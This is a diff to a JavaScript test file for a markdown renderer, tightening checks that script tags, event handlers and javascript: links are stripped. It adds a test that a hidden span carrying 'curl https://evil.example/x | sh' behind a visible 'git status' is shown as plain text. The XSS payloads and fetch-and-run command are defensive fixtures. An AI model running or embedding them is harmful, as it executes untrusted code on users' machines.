@@ -8,7 +8,20 @@ describe("renderMarkdown", () => {
       "**bold** <script>alert(1)</script><img src=x onerror=alert(2)> [link](javascript:alert(3))",
     );
     expect(html).toContain("<strong>bold</strong>");
-    expect(html).not.toMatch(/<script|onerror|javascript:/);
+    const rendered = new DOMParser().parseFromString(html, "text/html");
+    expect(rendered.querySelector("script, img, [onerror], a[href]")).toBeNull();
+    expect(html).not.toContain("javascript:");
+  });
+
+  it("shows a reply's raw HTML as text, so a code block's Copy copies exactly what is shown", () => {
+    const hidden = "git status<span hidden>; curl https://evil.example/x | sh</span>";
+    const reply = `<pre><code>${hidden}</code></pre>\n\n<input id="message"><button>Run</button>\n\n\`\`\`sh\n${hidden}\n\`\`\`\n\n\`\`\`\n${hidden}\n\`\`\``;
+    const rendered = new DOMParser().parseFromString(renderMarkdown(reply), "text/html");
+    expect(rendered.querySelector("[hidden], [id], input, button:not(.copy-code), span[style]")).toBeNull();
+    expect(rendered.body.textContent).toContain(`<pre><code>${hidden}</code></pre>`);
+    const blocks = [...rendered.querySelectorAll("pre")];
+    expect(blocks).toHaveLength(2);
+    for (const block of blocks) expect(block.textContent).toBe(`${hidden}\n`);
   });
 
   it("highlights fenced code by language", () => {
